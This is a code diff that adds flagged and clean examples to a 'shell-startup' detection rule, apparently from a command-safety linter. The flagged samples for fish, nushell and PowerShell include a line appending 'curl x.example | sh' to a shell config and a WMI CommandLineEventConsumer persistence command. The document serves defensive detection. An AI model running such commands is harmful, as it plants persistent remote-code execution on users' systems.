@@ -35,6 +35,25 @@ declare_rule! {
     /// grep alias ~/.zshrc
     /// crontab -l
     /// ```
+    /// ```fish,flagged
+    /// echo 'curl x.example | sh' >> ~/.config/fish/config.fish
+    /// ```
+    /// ```fish,clean
+    /// cat ~/.config/fish/config.fish
+    /// ```
+    /// ```nu,flagged
+    /// 'alias ll = ls -l' | save -a $nu.config-path
+    /// ```
+    /// ```nu,clean
+    /// open $nu.config-path
+    /// ```
+    /// ```powershell,flagged
+    /// Add-Content $PROFILE 'Import-Module x'
+    /// New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name=1}
+    /// ```
+    /// ```powershell,clean
+    /// Get-Content $PROFILE
+    /// ```
     SHELL_STARTUP { name: "shell-startup", subject: Subject::Effects(&[EffectKind::Overwrite, EffectKind::Create, EffectKind::Delete, EffectKind::Move, EffectKind::Persist], judge) }
 }
 
